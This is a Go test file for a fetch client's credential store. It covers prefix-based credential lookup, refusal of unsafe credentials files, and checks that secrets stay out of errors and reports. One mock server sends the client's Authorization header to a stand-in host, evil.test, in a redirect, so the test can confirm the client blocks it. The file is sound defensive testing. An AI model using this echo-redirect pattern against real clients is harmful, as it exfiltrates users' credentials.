package remote

import (
	"context"
	"fmt"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"testing"
	"time"

	"github.com/lola-pm/lola/schema"
)

// assertNoSecret renders every value every way a caller might and fails if
// the secret appears in any of them.
func assertNoSecret(t testing.TB, secret string, values ...any) {
	t.Helper()
	for _, v := range values {
		for _, verb := range []string{"%v", "%+v", "%#v", "%s", "%q"} {
			if s := fmt.Sprintf(verb, v); strings.Contains(s, secret) {
				t.Fatalf("secret appears in %s of %T: %s", verb, v, s)
			}
		}
	}
}

func TestCredentialLookupLongestPrefixByName(t *testing.T) {
	c, err := ParseCredentials([]byte(`
- remote: https://git.example.org/
  bearer: host-wide
- remote: https://git.example.org/team/
  username: alice
  password: team-secret
- remote: https://git.example.org:8443/team/
  bearer: other-port
- remote: ssh://git@git.example.org/
  identity: /keys/id
`))
	if err != nil {
		t.Fatal(err)
	}
	cases := map[string]string{
		"https://git.example.org/team/repo.git": "team-secret",
		"https://GIT.example.org/team":          "team-secret",
		"https://git.example.org:443/team/x":    "team-secret",
		"https://git.example.org/teammate/x":    "host-wide",
		"https://git.example.org/":              "host-wide",
		"https://git.example.org:8443/team/x":   "other-port",
		"https://git.example.org:8443/x":        "",
		"https://example.org/team/x":            "",
		"https://140.82.112.3/team/x":           "", // an address the name may resolve to is not the name
	}
	for raw, want := range cases {
		u, _ := url.Parse(raw)
		cr, ok := c.lookup(u)
		got := cr.bearer + cr.password
		if !ok {
			got = ""
		}
		if got != want {
			t.Errorf("lookup(%s) = %q, want %q", raw, got, want)
		}
	}
	u, _ := url.Parse("ssh://git.example.org/team/r.git")
	if cr, ok := c.lookup(u); !ok || cr.identity != "/keys/id" {
		t.Error("ssh entry not found for a user-less URL")
	}
	u, _ = url.Parse("ssh://mallory@git.example.org/team/r.git")
	if _, ok := c.lookup(u); ok {
		t.Error("ssh entry for user git matched user mallory")
	}
	assertNoSecret(t, "team-secret", c, *c, c.entries[1].cred)
}

func TestCredentialsFileRefusals(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "credentials")
	const secret = "do-not-print-me"
	write := func(body string, mode os.FileMode) {
		t.Helper()
		os.Remove(path)
		if err := os.WriteFile(path, []byte(body), mode); err != nil {
			t.Fatal(err)
		}
		os.Chmod(path, mode)
	}
	if c, err := LoadCredentials(filepath.Join(dir, "absent")); err != nil || len(c.entries) != 0 {
		t.Fatalf("absent file: %v %v", c, err)
	}
	good := "- remote: https://x.test/\n  bearer: " + secret + "\n"
	write(good, 0o600)
	if c, err := LoadCredentials(path); err != nil || len(c.entries) != 1 {
		t.Fatalf("0600 file: %v", err)
	}
	if runtime.GOOS != "windows" {
		for _, mode := range []os.FileMode{0o640, 0o604, 0o660, 0o606} {
			write(good, mode)
			_, err := LoadCredentials(path)
			if err == nil || !strings.Contains(err.Error(), "group or others") {
				t.Errorf("mode %o: err = %v", mode, err)
			}
		}
	}
	bad := []string{
		"- remote: https://x.test/\n  bearer: " + secret + "\n  token: " + secret + "\n", // unknown key
		"- remote: http://x.test/\n  bearer: " + secret + "\n",                           // not https
		"- remote: https://x.test/\n  bearer: " + secret + "\n  password: " + secret + "\n",
		"- remote: https://x.test/\n",
		"- remote: https://u:" + secret + "@x.test/\n  bearer: b\n",
		"- remote: ssh://x.test/\n  bearer: " + secret + "\n",
		"remote: " + secret + "\n",
		"- remote: https://x.test/?q=" + secret + "\n  bearer: b\n",
		good + "---\n" + good, // a second document is refused, not ignored
	}
	for i, body := range bad {
		write(body, 0o600)
		_, err := LoadCredentials(path)
		if err == nil {
			t.Errorf("bad file %d accepted", i)
			continue
		}
		assertNoSecret(t, secret, err)
		if strings.Contains(err.Error(), dir) {
			t.Errorf("bad file %d: error carries the host path: %v", i, err)
		}
	}
}

// Credentials never appear in errors, reports or hop notifications, whatever
// the outcome of the fetch.
func TestCredentialNeverInErrorsOrReports(t *testing.T) {
	const secret = "Zm9vYmFyLXNlY3JldA"
	ca := newTestCA(t)
	_, ap := tlsServer(t, ca, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/echo-redirect":
			// A hostile server echoes the credential into the Location.
			http.Redirect(w, r, "http://evil.test/?a="+url.QueryEscape(r.Header.Get("Authorization")), http.StatusFound)
		case "/big":
			w.Write([]byte(strings.Repeat(r.Header.Get("Authorization"), 100)))
		case "/deny":
			http.Error(w, r.Header.Get("Authorization"), http.StatusForbidden)
		default:
			w.Write([]byte("ok"))
		}
	}), "cred.test")
	creds, err := ParseCredentials([]byte("- remote: https://cred.test:" + itoa(int(ap.Port())) + "/\n  username: u\n  password: " + secret + "\n"))
	if err != nil {
		t.Fatal(err)
	}
	res := newResolver()
	res.set("cred.test", addrs("127.0.0.1"))
	c := newClient(t, Options{Policy: policyFor(t, []string{admit(ap)}, 0), Limits: testLimits(t, 64, 10*time.Second), Resolver: res, RootCAs: ca.pool, Credentials: creds})
	basic := "dTp" // prefix of base64("u:"+secret) is not the secret itself; check the encoded form too
	_ = basic
	for _, path := range []string{"/echo-redirect", "/big", "/deny", "/ok"} {
		var obs hopLog
		rep, err := c.Fetch(context.Background(), fetchReq("ext", urlFor("cred.test", ap, path), nil), stagingFile(t), &obs)
		if path == "/ok" && err != nil {
			t.Fatal(err)
		}
		if path == "/echo-redirect" {
			wantRule(t, err, schema.RuleRemoteScheme)
		}
		if path == "/big" {
			wantRule(t, err, schema.RuleRemoteBound)
		}
		for _, s := range []string{secret, encodedBasic("u", secret)} {
			assertNoSecret(t, s, rep, obs.hops)
			if err != nil {
				assertNoSecret(t, s, err)
			}
		}
	}
}

func encodedBasic(user, pass string) string {
	r := http.Request{Header: http.Header{}}
	r.SetBasicAuth(user, pass)
	return strings.TrimPrefix(r.Header.Get("Authorization"), "Basic ")
}
